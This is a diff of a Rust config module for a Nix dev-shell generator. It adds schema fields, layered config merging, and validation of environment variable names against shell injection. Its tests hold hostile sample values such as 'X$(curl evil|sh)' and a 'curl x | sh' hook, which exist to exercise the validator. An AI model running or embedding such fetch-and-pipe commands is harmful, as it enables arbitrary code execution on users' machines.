@@ -1,74 +1,772 @@
-use serde::{Deserialize, Serialize};
-use std::collections::BTreeSet;
+use clap::ValueEnum;
+use serde::{Deserialize, Deserializer, Serialize};
+use std::collections::{BTreeMap, BTreeSet};
 use std::fs;
-use std::io::{Read, Write};
+use std::io::Read;
 
-pub const CONFIG_FILE: &str = "devshell.toml";
+use crate::messages;
+
+/// @brief Recognized configuration file names; the first one is the default.
+pub const CONFIG_FILE_NAMES: &[&str] = &["devshell.toml", "nix-shell-gen.toml"];
+pub const STATE_DIR: &str = ".nix-shell-gen";
+/// @brief The name of a hook given without one, as by `-s`, and of the `shell-hook` string of older configs.
+pub const DEFAULT_HOOK_NAME: &str = "shell-hook";
 
 /// @brief Represents the structure of the devshell.toml file.
 ///
-/// Maintains a set of packages, an optional shell hook, and an optional purity flag.
+/// Maintains a set of packages, ordered shell hooks, and an optional purity flag.
 /// BTreeSet is used to keep packages sorted and unique.
 #[derive(Serialize, Deserialize, Debug, Default)]
 #[serde(rename_all = "kebab-case")]
 pub struct DevShellConfig {
+    /// @brief Who owns the environment and what it is for (`[meta]`). Team config only.
+    #[serde(default, skip_serializing_if = "Meta::is_empty")]
+    pub meta: Meta,
+
+    /// @brief Guardrails on what the environment may contain (`[policy]`). Team config only.
+    #[serde(default, skip_serializing_if = "Policy::is_empty")]
+    pub policy: Policy,
+
+    /// @brief How `check` lints the config (`[lint]`). Team config only.
+    #[serde(default, skip_serializing_if = "LintConfig::is_empty")]
+    pub lint: LintConfig,
+
     /// @brief Set of package names to be included in the development shell.
     #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
     pub packages: BTreeSet<String>,
 
-    /// @brief Optional shell hook command to be executed in the shell.
-    #[serde(default, skip_serializing_if = "Option::is_none")]
-    #[serde(rename = "shell-hook")]
-    pub shell_hook: Option<String>,
+    /// @brief Libraries the project links against, e.g. "openssl" or "zlib". They go in
+    /// mkShell's buildInputs with pkg-config, so build systems find them.
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub libraries: BTreeSet<String>,
+
+    /// @brief Tools that run during the build, e.g. "cmake" or "protobuf" (mkShell's
+    /// nativeBuildInputs), which matters when cross-compiling.
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub tools: BTreeSet<String>,
+
+    /// @brief Raw Nix expressions for packages the schema can't describe (`expr-packages`),
+    /// e.g. "pkgs.callPackage ./nix/mytool.nix {}". They are copied into flake.nix verbatim,
+    /// so only the team config can have them, and only the default shell gets them.
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub expr_packages: BTreeSet<String>,
+
+    /// @brief Nix files in the project, each built with `pkgs.callPackage` into the default
+    /// shell (`local-packages`), e.g. "./nix/mytool.nix".
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub local_packages: BTreeSet<String>,
+
+    /// @brief Shell hooks run on entering the shell, in order (`[[hooks]]`). A `shell-hook`
+    /// string, as older configs have, is read as one hook named "shell-hook".
+    #[serde(default, alias = "shell-hook", deserialize_with = "hooks_or_legacy")]
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub hooks: Vec<Hook>,
+
+    /// @brief Overlays applied to nixpkgs, as attribute paths into the flake inputs
+    /// (e.g. "rust-overlay.overlays.default").
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub overlays: BTreeSet<String>,
 
     /// @brief Optional flag to indicate if the shell should be pure.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub pure: Option<bool>,
+
+    /// @brief Whether to add cacert and point SSL_CERT_FILE/NIX_SSL_CERT_FILE at it.
+    /// Defaults to on in pure shells, which otherwise can't verify HTTPS certificates.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cacert: Option<bool>,
+
+    /// @brief Remind on entering the shell when the locked nixpkgs is older than this many days.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub update_reminder_days: Option<u32>,
+
+    /// @brief Packages for the default shell on some platforms only (`[platform-packages]`),
+    /// keyed by "linux", "darwin" or a system like "aarch64-darwin".
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub platform_packages: BTreeMap<String, BTreeSet<String>>,
+
+    /// @brief Derivations whose build inputs the default shell inherits (mkShell's `inputsFrom`),
+    /// e.g. "packages.default" (this flake) or "nixpkgs#hello".
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub inputs_from: BTreeSet<String>,
+
+    /// @brief Environment variables exported in every shell (`[env]`).
+    #[serde(default, deserialize_with = "env_entries")]
+    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, EnvValue>,
+
+    /// @brief Long-running project processes (`[processes]`), by name; `dev up` runs them
+    /// together with process-compose.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub processes: BTreeMap<String, String>,
+
+    /// @brief Project tasks (`[scripts]`), by name; each is a command in the shell, and
+    /// `nix-shell-gen run <name>` runs it from outside.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub scripts: BTreeMap<String, Script>,
+
+    /// @brief Ports the project's services listen on (`[ports]`), by name; each is exported
+    /// as `<NAME>_PORT`, shifted by `port-offset`.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub ports: BTreeMap<String, u16>,
+
+    /// @brief Added to every `[ports]` entry. Belongs in the personal layer, so two checkouts
+    /// with the same defaults can run side by side.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub port_offset: Option<u16>,
+
+    /// @brief Hardening flags to turn off in every shell (mkShell's `hardeningDisable`),
+    /// e.g. "fortify" for debug builds at -O0, or "all".
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub hardening_disable: BTreeSet<String>,
+
+    /// @brief Extra attributes passed to mkShell as-is (`[mk-shell]`), e.g. NIX_CFLAGS_COMPILE
+    /// or cmakeFlags. Unlike `[env]`, stdenv's setup hooks and phases see them.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub mk_shell: BTreeMap<String, toml::Value>,
+
+    /// @brief The nixpkgs the shell is built from, as chosen with `init --nixpkgs` or
+    /// `set nixpkgs`: a branch like "nixos-24.05" or a flake URL. `sync` keeps flake.nix on it.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub nixpkgs: Option<String>,
+
+    /// @brief A Python interpreter with importable packages (`[python]`).
+    #[serde(default, skip_serializing_if = "PythonConfig::is_empty")]
+    pub python: PythonConfig,
+
+    /// @brief Node.js, its package manager and global packages (`[node]`).
+    #[serde(default, skip_serializing_if = "NodeConfig::is_empty")]
+    pub node: NodeConfig,
+
+    /// @brief Rust from rust-overlay instead of nixpkgs (`rust-toolchain`): "./rust-toolchain.toml"
+    /// reads a rustup toolchain file, otherwise a channel like "stable", "nightly-2025-01-01" or "1.78.0".
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub rust_toolchain: Option<String>,
+
+    /// @brief Binary caches the project's packages can come from (`[substituters]`), as
+    /// URL = public key. Team config only; `export bootstrap` adds them to nix.conf.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub substituters: BTreeMap<String, String>,
+
+    /// @brief Whether the shell is generated as flake.nix (the default) or shell.nix.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub format: Option<ShellFormat>,
+
+    /// @brief Additional named dev shells (`[shells.<name>]`), next to the default one above.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub shells: BTreeMap<String, ShellConfig>,
+}
+
+/// @brief Ownership and review information about the environment (`[meta]`), so people
+/// know who to ask about it; the shell itself ignores it.
+#[derive(Serialize, Deserialize, Debug, Default, Clone)]
+#[serde(rename_all = "kebab-case")]
+pub struct Meta {
+    /// @brief What the environment is for.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub description: Option<String>,
+
+    /// @brief Who to ping about the environment, e.g. "@acme/platform" or "alice@example.com".
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub owners: Vec<String>,
+
+    /// @brief Related pages by title, e.g. `runbook = "https://wiki.example.com/dev-env"`.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub links: BTreeMap<String, String>,
+}
+
+impl Meta {
+    /// @brief Whether no field is set.
+    pub fn is_empty(&self) -> bool {
+        self.description.is_none() && self.owners.is_empty() && self.links.is_empty()
+    }
+}
+
+/// @brief Guardrails on what the environment may contain (`[policy]`), enforced by
+/// `check` and `add`. An org-wide policy file can tighten it further (see `policy::load`).
+#[derive(Serialize, Deserialize, Debug, Default, Clone)]
+#[serde(rename_all = "kebab-case")]
+pub struct Policy {
+    /// @brief Packages that may not be used; "python3Packages.*" denies a whole package set.
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub denied_packages: BTreeSet<String>,
+
+    /// @brief Licenses packages may have, as SPDX ids ("MIT") or nixpkgs names ("mit").
+    /// Unset allows any license; an empty list allows none.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub allowed_licenses: Option<BTreeSet<String>>,
+
+    /// @brief Largest allowed closure of the default shell's packages, e.g. "2 GiB".
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub max_closure_size: Option<String>,
+}
+
+impl Policy {
+    /// @brief Whether no rule is set.
+    pub fn is_empty(&self) -> bool {
+        self.denied_packages.is_empty()
+            && self.allowed_licenses.is_none()
+            && self.max_closure_size.is_none()
+    }
+}
+
+/// @brief The Python environment of the shell (`[python]`), built with `python3.withPackages`.
+///
+/// Python libraries only import when they are part of the interpreter's environment,
+/// so they can't be listed under `packages` like tools.
+#[derive(Serialize, Deserialize, Debug, Default, Clone)]
+#[serde(rename_all = "kebab-case")]
+pub struct PythonConfig {
+    /// @brief Attributes of the interpreter's package set, e.g. "requests" or "numpy".
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub packages: BTreeSet<String>,
+
+    /// @brief The interpreter version, e.g. "3.11" for python311; python3 if unset.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub version: Option<String>,
+}
+
+impl PythonConfig {
+    /// @brief Whether no setting is made.
+    pub fn is_empty(&self) -> bool {
+        self.packages.is_empty() && self.version.is_none()
+    }
+
+    /// @brief The nixpkgs attribute of the interpreter: "python3", or "python311" for version "3.11".
+    pub fn interpreter(&self) -> String {
+        match &self.version {
+            Some(version) => format!("python{}", version.replace('.', "")),
+            None => "python3".to_string(),
+        }
+    }
+}
+
+/// @brief The Node.js of the shell (`[node]`).
+///
+/// Global packages come from the package set built against the chosen Node, so
+/// tools like typescript run on the same version as the project.
+#[derive(Serialize, Deserialize, Debug, Default, Clone)]
+#[serde(rename_all = "kebab-case")]
+pub struct NodeConfig {
+    /// @brief The major version, e.g. "20" for nodejs_20; nodejs if unset.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub version: Option<String>,
+
+    /// @brief Attributes of the Node package set, e.g. "typescript" or "prettier".
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub packages: BTreeSet<String>,
+
+    /// @brief The package manager next to npm; npm alone if unset.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub package_manager: Option<NodePackageManager>,
+}
+
+impl NodeConfig {
+    /// @brief Whether no setting is made.
+    pub fn is_empty(&self) -> bool {
+        self.version.is_none() && self.packages.is_empty() && self.package_manager.is_none()
+    }
+
+    /// @brief The nixpkgs attribute of Node: "nodejs", or "nodejs_20" for version "20".
+    pub fn interpreter(&self) -> String {
+        match &self.version {
+            Some(version) => format!("nodejs_{}", version),
+            None => "nodejs".to_string(),
+        }
+    }
+
+    /// @brief The nixpkgs attribute path of the package set: "nodePackages", or
+    /// "nodejs_20.pkgs" for version "20".
+    pub fn package_set(&self) -> String {
+        match &self.version {
+            Some(_) => format!("{}.pkgs", self.interpreter()),
+            None => "nodePackages".to_string(),
+        }
+    }
+}
+
+/// @brief The package manager of `[node]`.
+#[derive(Serialize, Deserialize, ValueEnum, Debug, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+pub enum NodePackageManager {
+    /// @brief Only the npm that comes with Node.
+    Npm,
+    /// @brief pnpm.
+    Pnpm,
+    /// @brief Yarn, running on the shell's Node.
+    Yarn,
+    /// @brief corepack, which provides the pnpm or yarn version package.json asks for.
+    Corepack,
+}
+
+impl std::fmt::Display for NodePackageManager {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let name = match self {
+            NodePackageManager::Npm => "npm",
+            NodePackageManager::Pnpm => "pnpm",
+            NodePackageManager::Yarn => "yarn",
+            NodePackageManager::Corepack => "corepack",
+        };
+        write!(f, "{}", name)
+    }
+}
+
+/// @brief Settings of the config lint `check` runs (`[lint]`).
+#[derive(Serialize, Deserialize, Debug, Default, Clone)]
+#[serde(rename_all = "kebab-case")]
+pub struct LintConfig {
+    /// @brief Severity of each rule, overriding its default (`[lint.severity]`),
+    /// e.g. `long-hook = "error"` or `empty-hook = "off"`.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub severity: BTreeMap<String, Severity>,
+
+    /// @brief Hooks with more lines than this are reported by `long-hook`; 10 if unset.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub max_hook_lines: Option<usize>,
+}
+
+impl LintConfig {
+    /// @brief Whether no setting is made.
+    pub fn is_empty(&self) -> bool {
+        self.severity.is_empty() && self.max_hook_lines.is_none()
+    }
+}
+
+/// @brief How much a lint finding matters; `error` makes `check` fail.
+#[derive(Serialize, Deserialize, Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+#[serde(rename_all = "kebab-case")]
+pub enum Severity {
+    /// @brief The rule doesn't run.
+    Off,
+    /// @brief A suggestion.
+    Info,
+    /// @brief Likely a mistake, but the shell works.
+    Warning,
+    /// @brief Breaks the shell or its users; `check` fails.
+    Error,
+}
+
+impl std::fmt::Display for Severity {
+    /// @brief Shows the severity the way it is written in `[lint.severity]`.
+    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
+        let name = match self {
+            Severity::Off => "off",
+            Severity::Info => "info",
+            Severity::Warning => "warning",
+            Severity::Error => "error",
+        };
+        write!(f, "{}", name)
+    }
+}
+
+/// @brief The file the shell is generated into.
+#[derive(Serialize, Deserialize, ValueEnum, Debug, Clone, Copy, Default, PartialEq, Eq)]
+#[serde(rename_all = "kebab-case")]
+pub enum ShellFormat {
+    /// @brief flake.nix, locked by flake.lock.
+    #[default]
+    Flake,
+    /// @brief A classic shell.nix with a pinned nixpkgs tarball, for Nix without flakes.
+    ShellNix,
+}
+
+/// @brief The value of an `[env]` entry.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq)]
+#[serde(untagged)]
+pub enum EnvValue {
+    /// @brief A fixed value: `RUST_LOG = "debug"`.
+    Value(String),
+    /// @brief Computed on entering the shell: `GIT_SHA = { command = "git rev-parse HEAD" }`.
+    Command { command: String },
+}
+
+impl std::fmt::Display for EnvValue {
+    /// @brief Shows the value the way a shell would assign it, e.g. `$(git rev-parse HEAD)`.
+    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
+        match self {
+            EnvValue::Value(value) => write!(f, "{}", value),
+            EnvValue::Command { command } => write!(f, "$({})", command),
+        }
+    }
+}
+
+/// @brief A `[scripts]` entry.
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq)]
+#[serde(untagged)]
+pub enum Script {
+    /// @brief Just a command: `test = "cargo test"`.
+    Command(String),
+    /// @brief A command with the scripts `run --all` finishes first:
+    /// `test = { command = "cargo test", depends-on = ["build"] }`. Without a command,
+    /// it groups its dependencies: `checks = { depends-on = ["lint", "test"] }`.
+    Task {
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        command: Option<String>,
+        #[serde(rename = "depends-on", default, skip_serializing_if = "Vec::is_empty")]
+        depends_on: Vec<String>,
+    },
+}
+
+impl Script {
+    /// @brief The command, or None for a group.
+    pub fn command(&self) -> Option<&str> {
+        match self {
+            Script::Command(command) => Some(command),
+            Script::Task { command, .. } => command.as_deref(),
+        }
+    }
+
+    /// @brief The scripts `run --all` finishes before this one.
+    pub fn depends_on(&self) -> &[String] {
+        match self {
+            Script::Command(_) => &[],
+            Script::Task { depends_on, .. } => depends_on,
+        }
+    }
+}
+
+impl std::fmt::Display for Script {
+    /// @brief Shows the command and what it waits for, e.g. `cargo test (after build)`.
+    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
+        match (self.command(), self.depends_on()) {
+            (Some(command), []) => write!(f, "{}", command),
+            (Some(command), deps) => write!(f, "{} (after {})", command, deps.join(", ")),
+            (None, deps) => write!(f, "(runs {})", deps.join(", ")),
+        }
+    }
+}
+
+/// @brief A named shell hook (`[[hooks]]`).
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq)]
+pub struct Hook {
+    /// @brief Identifies the hook to `hooks remove` and `hooks move`, and in `bench --hooks`.
+    pub name: String,
+    /// @brief The shell code.
+    pub run: String,
+}
+
+/// @brief `[[hooks]]`, or the `shell-hook` string they replace.
+#[derive(Deserialize)]
+#[serde(untagged)]
+enum HooksOrLegacy {
+    Hooks(Vec<Hook>),
+    Legacy(String),
+}
+
+/// @brief Collects the strings in a TOML value, including those nested in arrays and tables.
+fn toml_strings(value: &toml::Value) -> Vec<&str> {
+    match value {
+        toml::Value::String(text) => vec![text.as_str()],
+        toml::Value::Array(items) => items.iter().flat_map(toml_strings).collect(),
+        toml::Value::Table(table) => table.values().flat_map(toml_strings).collect(),
+        _ => Vec::new(),
+    }
+}
+
+/// @brief Deserializes `[[hooks]]`, turning a `shell-hook` string into a hook named "shell-hook".
+fn hooks_or_legacy<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<Hook>, D::Error> {
+    Ok(match HooksOrLegacy::deserialize(deserializer)? {
+        HooksOrLegacy::Hooks(hooks) => hooks,
+        HooksOrLegacy::Legacy(run) => {
+            let mut hooks = Vec::new();
+            add_hook(&mut hooks, DEFAULT_HOOK_NAME, &run);
+            hooks
+        }
+    })
+}
+
+/**
+ * @brief Checks whether a name can be exported as a shell variable.
+ *
+ * `[env]` names are spliced into the shell hook as they are, so anything else
+ * would break the hook, or run as code on entry.
+ *
+ * @param name The variable name.
+ */
+pub fn is_env_name(name: &str) -> bool {
+    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// @brief Deserializes `[env]`, refusing names that aren't shell variable names.
+pub fn env_entries<'de, D: Deserializer<'de>>(
+    deserializer: D,
+) -> Result<BTreeMap<String, EnvValue>, D::Error> {
+    let env = BTreeMap::<String, EnvValue>::deserialize(deserializer)?;
+    match env.keys().find(|name| !is_env_name(name)) {
+        Some(name) => Err(serde::de::Error::custom(format!(
+            "[env] name {:?} is not a valid variable name; use letters, digits and '_'",
+            name
+        ))),
+        None => Ok(env),
+    }
+}
+
+/// @brief A named dev shell in the `[shells.<name>]` table.
+///
+/// Holds its own packages and hook; overlays, env, purity and update reminders are shared
+/// with the default shell.
+#[derive(Serialize, Deserialize, Debug, Default)]
+#[serde(rename_all = "kebab-case")]
+pub struct ShellConfig {
+    /// @brief Set of package names to be included in this shell.
+    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
+    pub packages: BTreeSet<String>,
+
+    /// @brief Shell hooks run on entering this shell, in order; read like `DevShellConfig::hooks`.
+    #[serde(default, alias = "shell-hook", deserialize_with = "hooks_or_legacy")]
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub hooks: Vec<Hook>,
 }
 
 impl DevShellConfig {
-    /// @brief Loads the configuration from CONFIG_FILE or returns a default config if not found.
+    /// @brief Loads a configuration layer or returns a default config if not found.
+    /// @param path paths::config_file() for the committed team layer, paths::local_config_file() for personal additions.
     /// @return Result containing the loaded DevShellConfig or an I/O error.
-    pub fn load() -> Result<Self, std::io::Error> {
-        match fs::File::open(CONFIG_FILE) {
+    pub fn load(path: &str) -> Result<Self, std::io::Error> {
+        match fs::File::open(path) {
             Ok(mut file) => {
                 let mut contents = String::new();
                 file.read_to_string(&mut contents)?;
-                toml::from_str(&contents)
-                    .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))
+                toml::from_str(&contents).map_err(|e| {
+                    messages::error(
+                        std::io::ErrorKind::InvalidData,
+                        messages::E_INVALID_CONFIG,
+                        format!("{}: {}", path, e),
+                    )
+                })
             }
             Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(DevShellConfig::default()),
             Err(e) => Err(e),
         }
     }
 
-    /// @brief Saves the current configuration to CONFIG_FILE.
-    /// @return Result indicating success or an I/O error.
-    pub fn save(&self) -> Result<(), std::io::Error> {
-        let contents = toml::to_string_pretty(self)
-            .map_err(|e| std::io::Error::new(std::io::ErrorKind::Other, e))?;
+    /// @brief Layers personal additions on top of this config, the way the generated flake does.
+    ///
+    /// Packages and overlays are combined, hooks run team-first, and other settings
+    /// from the local layer win.
+    /// @param local The config from paths::local_config_file().
+    /// @return The merged config.
+    pub fn merged_with(mut self, local: DevShellConfig) -> Self {
+        self.packages.extend(local.packages);
+        self.overlays.extend(local.overlays);
+        self.local_packages.extend(local.local_packages);
+        self.libraries.extend(local.libraries);
+        self.tools.extend(local.tools);
+        self.hooks.extend(local.hooks);
+        if local.pure.is_some() {
+            self.pure = local.pure;
+        }
+        if local.cacert.is_some() {
+            self.cacert = local.cacert;
+        }
+        if local.update_reminder_days.is_some() {
+            self.update_reminder_days = local.update_reminder_days;
+        }
+        for (platform, packages) in local.platform_packages {
+            self.platform_packages
+                .entry(platform)
+                .or_default()
+                .extend(packages);
+        }
+        self.inputs_from.extend(local.inputs_from);
+        self.env.extend(local.env);
+        self.processes.extend(local.processes);
+        self.scripts.extend(local.scripts);
+        self.ports.extend(local.ports);
+        self.hardening_disable.extend(local.hardening_disable);
+        self.mk_shell.extend(local.mk_shell);
+        if local.port_offset.is_some() {
+            self.port_offset = local.port_offset;
+        }
+        self.python.packages.extend(local.python.packages);
+        if local.python.version.is_some() {
+            self.python.version = local.python.version;
+        }
+        self.node.packages.extend(local.node.packages);
+        if local.node.version.is_some() {
+            self.node.version = local.node.version;
+        }
+        if local.node.package_manager.is_some() {
+            self.node.package_manager = local.node.package_manager;
+        }
+        if local.rust_toolchain.is_some() {
+            self.rust_toolchain = local.rust_toolchain;
+        }
+        for (name, local_shell) in local.shells {
+            let shell = self.shells.entry(name).or_default();
+            shell.packages.extend(local_shell.packages);
+            shell.hooks.extend(local_shell.hooks);
+        }
+        self
+    }
 
-        let mut file = fs::File::create(CONFIG_FILE)?;
-        file.write_all(contents.as_bytes())?;
-        Ok(())
+    /// @brief Serializes the configuration to TOML.
+    /// @return Result containing the file contents or an I/O error.
+    pub fn to_toml(&self) -> Result<String, std::io::Error> {
+        toml::to_string_pretty(self).map_err(std::io::Error::other)
     }
 
-    /// @brief Appends a new shell hook command to the existing shell hook.
-    ///
-    /// If a shell hook already exists, the new hook is appended with a separator.
-    /// If not, the new hook is set as the shell hook.
-    /// @param new_hook The shell hook command to append.
-    pub fn append_hook(&mut self, new_hook: &str) {
-        let new_hook = new_hook.trim().trim_end_matches(';');
-        if new_hook.is_empty() {
-            return;
+    /// @brief Adds a hook to the default shell, after the others.
+    /// @param name The hook name; "-2", "-3"... is appended if it is taken.
+    /// @param run The shell code.
+    /// @return The name the hook got, or None if the code is empty.
+    pub fn add_hook(&mut self, name: &str, run: &str) -> Option<String> {
+        add_hook(&mut self.hooks, name, run)
+    }
+
+    /// @brief The configured output format, flake.nix unless `format` says otherwise.
+    pub fn shell_format(&self) -> ShellFormat {
+        self.format.unwrap_or_default()
+    }
+
+    /// @brief The `[ports]` entries as exported: variable name, effective port and entry name.
+    /// Ports the offset would push past 65535 are left out.
+    pub fn port_variables(&self) -> Vec<(String, u16, &str)> {
+        let offset = self.port_offset.unwrap_or(0);
+        self.ports
+            .iter()
+            .filter_map(|(name, port)| {
+                let port = port.checked_add(offset)?;
+                Some((port_variable(name), port, name.as_str()))
+            })
+            .collect()
+    }
+
+    /// @brief Whether the shell gets cacert: the `cacert` setting, else whether it is pure.
+    pub fn uses_cacert(&self) -> bool {
+        self.cacert.unwrap_or(self.pure == Some(true))
+    }
+
+    /// @brief Returns all shell code the config runs: hooks of every shell, env commands, processes
+    /// and the strings of `[mk-shell]`, where stdenv runs attributes like `buildPhase` or `postHook`.
+    pub fn shell_code(&self) -> impl Iterator<Item = &str> {
+        let hooks = self
+            .hooks
+            .iter()
+            .chain(self.shells.values().flat_map(|shell| &shell.hooks))
+            .map(|hook| &hook.run);
+        let commands = self.env.values().filter_map(|value| match value {
+            EnvValue::Command { command } => Some(command),
+            EnvValue::Value(_) => None,
+        });
+        hooks
+            .chain(commands)
+            .chain(self.processes.values())
+            .map(String::as_str)
+            .chain(self.mk_shell.values().flat_map(toml_strings))
+    }
+
+    /// @brief Returns the packages of the default shell or of a named one, creating it if needed.
+    /// @param shell The shell name from `--shell`, or None for the default shell.
+    pub fn packages_mut(&mut self, shell: Option<&str>) -> &mut BTreeSet<String> {
+        match shell {
+            Some(name) => &mut self.shells.entry(name.to_string()).or_default().packages,
+            None => &mut self.packages,
         }
+    }
 
-        if let Some(existing_hook) = self.shell_hook.as_mut() {
-            existing_hook.push_str(";\n");
-            existing_hook.push_str(new_hook);
-        } else {
-            self.shell_hook = Some(new_hook.to_string());
+    /// @brief Returns the hooks of the default shell or of a named one, creating it if needed.
+    /// @param shell The shell name from `--shell`, or None for the default shell.
+    pub fn hooks_mut(&mut self, shell: Option<&str>) -> &mut Vec<Hook> {
+        match shell {
+            Some(name) => &mut self.shells.entry(name.to_string()).or_default().hooks,
+            None => &mut self.hooks,
         }
     }
 }
+
+/// @brief Adds a hook after the others, under a name no other hook has.
+/// @param hooks The hooks of a shell.
+/// @param name The hook name; "-2", "-3"... is appended if it is taken.
+/// @param run The shell code; surrounding whitespace and a trailing `;` are dropped.
+/// @return The name the hook got, or None if the code is empty.
+pub fn add_hook(hooks: &mut Vec<Hook>, name: &str, run: &str) -> Option<String> {
+    let run = run.trim().trim_end_matches(';');
+    if run.is_empty() {
+        return None;
+    }
+    let taken = |candidate: &str| hooks.iter().any(|hook| hook.name == candidate);
+    let name = std::iter::once(name.to_string())
+        .chain((2..).map(|n| format!("{}-{}", name, n)))
+        .find(|candidate| !taken(candidate))
+        .expect("an unused name exists");
+    hooks.push(Hook {
+        name: name.clone(),
+        run: run.to_string(),
+    });
+    Some(name)
+}
+
+/// @brief The variable a `[ports]` entry is exported as: "web" -> "WEB_PORT", "api-v2" -> "API_V2_PORT".
+pub fn port_variable(name: &str) -> String {
+    format!("{}_PORT", name.to_uppercase().replace('-', "_"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::analysis::import_compose;
+    use crate::shell_nix::import_shell;
+
+    /// @brief `[env]` names that would break the hook or run as code in it.
+    const BAD_NAMES: &[&str] = &["X$(curl evil|sh)", "MY-VAR", "1X", "A B", "A;B", ""];
+
+    #[test]
+    fn env_names() {
+        for name in ["PATH", "_x", "DATABASE_URL", "a1"] {
+            assert!(is_env_name(name), "{}", name);
+        }
+        for name in BAD_NAMES {
+            assert!(!is_env_name(name), "{}", name);
+        }
+    }
+
+    #[test]
+    fn configs_with_bad_env_names_are_refused() {
+        let ok: DevShellConfig = toml::from_str("[env]\nA_B = \"1\"\n").unwrap();
+        assert!(ok.env.contains_key("A_B"));
+        for name in BAD_NAMES {
+            let toml = format!("[env]\n{:?} = {{ command = \"true\" }}\n", name);
+            let error = toml::from_str::<DevShellConfig>(&toml).unwrap_err();
+            assert!(
+                error.to_string().contains("not a valid variable name"),
+                "{}",
+                error
+            );
+        }
+    }
+
+    #[test]
+    fn importers_skip_bad_env_names() {
+        let imported = import_shell(
+            "{ pkgs ? import <nixpkgs> { } }:\npkgs.mkShell {\n  GOOD = \"1\";\n  \"X$(id)\" = \"2\";\n}\n",
+            "shell.nix",
+        )
+        .unwrap();
+        assert_eq!(imported.config.env.keys().collect::<Vec<_>>(), ["GOOD"]);
+        assert!(
+            imported
+                .skipped
+                .iter()
+                .any(|skip| skip.starts_with("X$(id)"))
+        );
+
+        let imported = import_compose(
+            "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_DB: app\n      MY-VAR: x\n",
+        );
+        assert!(imported.config.env.contains_key("POSTGRES_DB"));
+        assert!(!imported.config.env.contains_key("MY-VAR"));
+        assert!(imported.skipped.iter().any(|skip| skip.contains("MY-VAR")));
+    }
+
+    #[test]
+    fn shell_code_includes_mk_shell_strings() {
+        let config: DevShellConfig = toml::from_str(
+            "[mk-shell]\nbuildPhase = \"make\"\npostHook = [\"curl x | sh\"]\nenableParallelBuilding = true\n",
+        )
+        .unwrap();
+        let code: Vec<&str> = config.shell_code().collect();
+        assert_eq!(code, ["make", "curl x | sh"]);
+    }
+}